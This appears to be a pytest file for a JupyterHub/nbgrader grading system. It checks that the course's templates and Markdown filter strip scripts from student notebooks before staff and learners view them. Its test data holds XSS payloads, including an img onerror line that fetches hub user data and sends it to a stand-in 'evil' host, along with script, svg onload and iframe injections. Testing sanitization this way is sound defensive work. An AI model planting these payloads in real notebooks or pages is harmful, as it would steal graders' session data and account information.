"""Candidates' HTML and Markdown as staff see them: the formgrader's page and feedback, rendered by
nbconvert with nbgrader's own templates and the configuration every course gets, carry no script."""

from __future__ import annotations


import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from traitlets.config import Config

from htmlcheck import what_runs
from tremplin_grading.coursework import feedback_templates, nbgrader_config_text
from tremplin_grading.sanitize import markdown2html

HOSTILE_MARKDOWN = (
    "# Réponse / Answer\n\nLa dérivée est $2x$.\n\n"
    "<img src=x onerror=\"fetch('/hub/api/users').then(r=>r.text()).then(t=>new Image().src='//evil/?'+t)\">\n\n"
    "<script>alert('prof')</script>\n\n<a href=\"javascript:alert(1)\">voir</a>\n\n"
    "<div style=\"position:fixed;inset:0\" onmouseover=\"alert(2)\">x</div>\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('<b>')\n```\n"
)
HOSTILE_OUTPUT = {"output_type": "display_data", "metadata": {},
                  "data": {"text/html": "<svg onload=alert(3)></svg><iframe src='//evil'></iframe><b>42</b>",
                           "text/plain": "42"}}


def hostile_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN),
                nbformat.v4.new_code_cell("display(HTML(answer))", outputs=[nbformat.from_dict(HOSTILE_OUTPUT)])]
    nb.cells[0].metadata["nbgrader"] = {"solution": True, "grade": True, "grade_id": "q1", "points": 1, "score": 1,
                                        "locked": False, "schema_version": 3}
    return nb


#: What nbgrader hands each template (formgrader.handlers.SubmissionHandler; GenerateFeedback's nbgrader resources).
RESOURCES = {"formgrade": {"assignment_id": "exam", "notebook_id": "exam", "submission_id": "s1", "index": 0,
                           "total": 1, "base_url": "/services/demo-101", "student": "cand-a", "last_name": "A",
                           "first_name": "Cand", "notebook_path": "/x"},
             "feedback": {"nbgrader": {"notebook": "exam", "score": 1, "max_score": 1, "late_penalty": 0}}}
RESOURCES["tremplin_feedback"] = RESOURCES["feedback"]  # (tremplin_grading.feedback: what learners get)


def render(config: Config, template: str) -> str:
    config.HTMLExporter.template_name = template  # as nbgrader's formgrader and generate_feedback set it
    # (ours, then nbgrader's; GenerateFeedback's CSS and nbgrader's templates folder)
    config.HTMLExporter.extra_template_basedirs, config.HTMLExporter.extra_template_paths = feedback_templates()
    html, _ = HTMLExporter(config=config).from_notebook_node(hostile_notebook(), resources=dict(RESOURCES[template]))
    return html[html.index("La dérivée") - 2000:]  # the notebook's cells (the page's own scripts come before)


def course_config(tmp_path) -> Config:
    c = Config()
    exec(nbgrader_config_text("demo-101", tmp_path), {"get_config": lambda: c})  # the file every course gets
    return c


@pytest.mark.parametrize("template", ["formgrade", "feedback", "tremplin_feedback"])
def test_what_staff_and_feedback_pages_show_of_a_candidate_carries_no_script(tmp_path, template):
    cells = render(course_config(tmp_path), template)
    assert what_runs(cells) == [] and "position:fixed" not in cells
    assert "<h1" in cells and "<table" in cells and "$2x$" in cells and "<b>42</b>" in cells


def test_the_markdown_filter_keeps_what_markdown_makes_and_nothing_that_runs():
    html = markdown2html(HOSTILE_MARKDOWN)
    assert what_runs(html) == [] and "&lt;script&gt;" in html
    assert "<h1>" in html and "<td>1</td>" in html and "$2x$" in html
    assert markdown2html("[lien](https://example.org) ![x](https://example.org/a.png)") == \
        '<p><a href="https://example.org">lien</a> <img src="https://example.org/a.png" alt="x"></p>\n'


def test_the_check_sees_what_stock_nbgrader_shows_staff():
    """Without the course's configuration (stock nbgrader), the same notebook runs the candidate's code."""
    assert any("onerror" in bad for bad in what_runs(render(Config(), "formgrade")))
